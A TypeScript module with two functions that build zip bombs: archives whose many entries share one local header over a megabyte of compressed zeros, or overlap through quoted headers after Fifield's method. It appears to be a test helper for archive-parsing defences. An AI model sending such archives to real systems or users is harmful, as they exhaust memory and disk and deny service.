import { deflateRawSync } from 'node:zlib';

const DEFLATE = 8;
const SIZE_FOLLOWS = 8;
const KERNEL = deflateRawSync(Buffer.alloc(1024 ** 2));

/** A file as the headers of an archive describe it. */
interface Headed {
  readonly name: string;
  readonly size: number;
  readonly flags: number;
}

/**
 * An archive of which every listed file is the same megabyte of zeros: all of them have the same local header.
 * @param isSized whether the directory says how large the files are
 */
export function sharedFileZipOf(names: readonly string[], isSized = true): Buffer {
  const file = { name: names[0] ?? '', size: isSized ? KERNEL.length : 0, flags: isSized ? 0 : SIZE_FOLLOWS };
  const body = Buffer.concat([localHeader(file), KERNEL]);
  return archiveOf(
    body,
    names.map((name) => ({ ...file, name, at: 0 })),
  );
}

/**
 * An archive whose files have headers of their own, each of which stands in the data of all files before it, as text
 * that deflate passes on as it is; then all go on with the same bytes (David Fifield, "A better zip bomb", 2019).
 */
export function quotedFilesZipOf(names: readonly string[], isSized = true): Buffer {
  let data = KERNEL;
  const sizes: number[] = [];
  for (const name of [...names].reverse()) {
    const size = isSized ? data.length : 0;
    sizes.unshift(size);
    const header = localHeader({ name, size, flags: isSized ? 0 : SIZE_FOLLOWS });
    data = Buffer.concat([storedBlock(header.length), header, data]);
  }
  const body = data.subarray(STORED_BLOCK);
  let at = 0;
  const files = names.map((name, index) => {
    const file = { name, size: sizes[index] ?? 0, flags: isSized ? 0 : SIZE_FOLLOWS, at };
    at += localHeader(file).length + STORED_BLOCK;
    return file;
  });
  return archiveOf(body, files);
}

const STORED_BLOCK = 5;

/** The head of a block of deflate that is not compressed and not the last. */
function storedBlock(length: number): Buffer {
  const head = Buffer.alloc(STORED_BLOCK);
  head.writeUInt16LE(length, 1);
  head.writeUInt16LE(~length & 0xffff, 3);
  return head;
}

function localHeader({ name, size, flags }: Headed): Buffer {
  const header = Buffer.alloc(30);
  header.write('PK\x03\x04', 'latin1');
  header.writeUInt16LE(flags, 6);
  header.writeUInt16LE(DEFLATE, 8);
  header.writeUInt32LE(size, 18);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, Buffer.from(name)]);
}

function archiveOf(body: Buffer, files: readonly (Headed & { readonly at: number })[]): Buffer {
  const directory = Buffer.concat(files.map(centralHeader));
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(body.length, 16);
  return Buffer.concat([body, directory, end]);
}

function centralHeader({ name, size, flags, at }: Headed & { readonly at: number }): Buffer {
  const header = Buffer.alloc(46);
  header.write('PK\x01\x02', 'latin1');
  header.writeUInt16LE(flags, 8);
  header.writeUInt16LE(DEFLATE, 10);
  header.writeUInt32LE(size, 20);
  header.writeUInt16LE(name.length, 28);
  header.writeUInt32LE(at, 42);
  return Buffer.concat([header, Buffer.from(name)]);
}
